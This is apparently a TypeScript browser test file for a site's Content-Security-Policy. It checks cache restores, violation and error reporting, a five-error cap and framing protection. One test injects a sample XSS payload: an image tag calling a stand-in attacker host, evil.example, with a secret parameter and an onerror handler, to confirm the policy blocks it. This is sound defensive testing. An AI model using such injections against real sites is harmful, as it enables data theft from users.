/**
 * The Content-Security-Policy blocks nothing of ours (docs/threats.md). Document loads of all pages are in
 * every-page.test.ts, client navigations in static-html.test.ts.
 */

import { describe, expect, it } from "vitest";
import { launchBrowser } from "#scripts/browser.ts";
import { load, newTab, startJourneys, tab, url, visit } from "#tests/support/journey.ts";
import { startTestStack } from "#tests/support/test-stack.ts";
import { hydrated, openTab } from "#tests/support/visit.ts";

startJourneys();

describe("the policy blocks nothing", () => {
  it("on a page from the browser's back/forward cache", async ({ skip, onTestFinished }) => {
    const browser = await launchBrowser({ keepsPages: true });
    onTestFinished(() => browser.close());
    const visit = await openTab(browser);
    const { page, trouble } = visit;
    await load("/faq", visit);
    await page.evaluate(() => Object.assign(window, { isRestored: true }));
    // The browser drops a cached page that receives a message, as the next page sends it once its session is known.
    await page.route("**/api/**", () => undefined);
    await page.goto(url("/about-us"));
    await hydrated(page);
    // A restored page has no load event.
    await page.goBack({ waitUntil: "commit" });
    await page.waitForFunction(() => location.pathname === "/faq");
    const isRestored = await page.evaluate(() => "isRestored" in window);
    // A browser with such a cache gives a reason for not using it; the one of the npm package has none.
    const reasons = await page.evaluate(
      () =>
        (performance.getEntriesByType("navigation")[0] as { notRestoredReasons?: unknown }).notRestoredReasons ?? null,
    );
    if (!isRestored && (reasons === null || /"masked"/.test(JSON.stringify(reasons)))) {
      skip("This browser has no back/forward cache.");
    }
    expect(isRestored, JSON.stringify(reasons)).toBe(true);
    // Its scripts run: the client router follows a link.
    await page.evaluate(() => document.querySelector<HTMLAnchorElement>('a[href="/contact-us"]')?.click());
    await page.waitForFunction(() => location.pathname === "/contact-us");
    expect(await page.evaluate(() => "isRestored" in window)).toBe(true);
    expect(trouble).toEqual([]);
  });
});

describe("what the policy blocks", () => {
  it("is reported to the site by the browser, and so are errors", async ({ onTestFinished }) => {
    const own = await startTestStack();
    onTestFinished(() => own.stop());
    const lines = async (event: string) => (await own.logLines()).filter((line) => line.includes(`"event":"${event}"`));
    await newTab();
    await load(new URL("/faq?email=somebody@example.com", own.site.url).href);
    await tab.page.evaluate(() => {
      const holder = document.createElement("div");
      holder.innerHTML = '<img src="https://evil.example/x.png?secret=1" onerror="window.__xss = 1">';
      document.body.appendChild(holder);
      setTimeout(() => {
        throw new Error("Broken on purpose");
      }, 0);
      void Promise.reject(new Error("Refused on purpose"));
    });
    const blocked = async () => (await lines("csp-violation")).find((line) => line.includes("img-src")) ?? "";
    await expect.poll(blocked).not.toBe("");
    expect(JSON.parse(await blocked())).toMatchObject({
      page: "/faq",
      directive: "img-src",
      blocked: "https://evil.example/x.png",
    });
    for (const message of ["Error: Broken on purpose", "Error: Refused on purpose"])
      await expect.poll(async () => (await lines("client-error")).join()).toContain(message);
    expect((await own.logLines()).join("\n")).not.toMatch(/somebody|secret=1/);
    expect(await tab.page.evaluate(() => "__xss" in window)).toBe(false);
  });

  it("a page reports at most five errors", async () => {
    const { page } = await visit("/about-us");
    const sent: string[] = [];
    page.on("request", (request) => request.url().endsWith("/_r/err") && sent.push(request.url()));
    await page.evaluate(async () => {
      for (let n = 0; n < 50; n++)
        setTimeout(() => {
          throw new Error("again");
        }, 0);
      // Timers of the same delay run in order: all errors are thrown by then.
      await new Promise((resolve) => setTimeout(resolve, 0));
    });
    await expect.poll(() => sent.length).toBe(5);
    await tab.settled();
    expect(sent).toHaveLength(5);
  });

  it("a page of ours in a frame of another site, or of our own, stays blank (docs/threats.md T21)", async () => {
    const { page } = await newTab();
    for (const host of ["localhost", "canyon.localhost"]) {
      // A document without a policy of its own: cross-site to the browser, or ours.
      const framing = url("/framing", host);
      await page.route(framing, (route) =>
        route.fulfill({ contentType: "text/html", body: `<iframe src="${url("/faq")}"></iframe>` }),
      );
      await page.goto(framing, { waitUntil: "load" });
      const frame = page.frames().find((each) => each !== page.mainFrame());
      expect(
        await frame?.evaluate(() => document.body.textContent?.includes("question") ?? false).catch(() => false),
      ).toBe(false);
      expect(frame?.url()).not.toBe(url("/faq"));
    }
  });
});
